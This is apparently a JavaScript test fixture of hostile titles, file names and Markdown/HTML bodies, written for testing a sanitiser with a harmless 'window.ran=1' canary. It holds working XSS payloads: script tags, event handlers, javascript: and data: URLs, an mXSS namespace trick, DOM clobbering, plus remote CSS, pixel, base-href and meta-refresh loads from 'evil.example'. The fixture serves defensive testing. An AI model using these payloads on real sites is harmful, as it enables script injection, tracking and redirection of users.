/** What strangers may write. Each line would say so if it ran: `window.ran` would be set. */
const RUN = 'window.ran=1';

export const HOSTILE_TITLE = `</script></title><script>${RUN}</script><img src=x onerror=${RUN}>"'\u202ejavascript:${RUN}`;

export const HOSTILE_FILE = `"><img src=x onerror=${RUN}>.html`;

export const HOSTILE_BODY = [
  '# A heading <script>window.ran=1</script>',
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">a link</a> [another](javascript:${RUN}) [third](JaVaScRiPt:${RUN})`,
  `[data](data:text/html,<script>${RUN}</script>) [good](https://example.org/)`,
  `<form action="https://evil.example/"><input name=q><button formaction="javascript:${RUN}">x</button></form>`,
  `<style>@import 'https://evil.example/a.css'; * { background: url(https://evil.example/b) }</style>`,
  '<link rel="stylesheet" href="https://evil.example/c.css"><base href="https://evil.example/">',
  '![picture](https://evil.example/pixel.png) <img src="https://evil.example/p2.png">',
  `<div id="boot" style="background:url(https://evil.example/d)">clobbered</div><a id=app name=app>x</a>`,
  `<template><script>${RUN}</script></template><noscript><img src=x onerror=${RUN}></noscript>`,
  `| a | b |\n| - | - |\n| <b onclick="${RUN}">x</b> | y |`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
].join('\n\n');
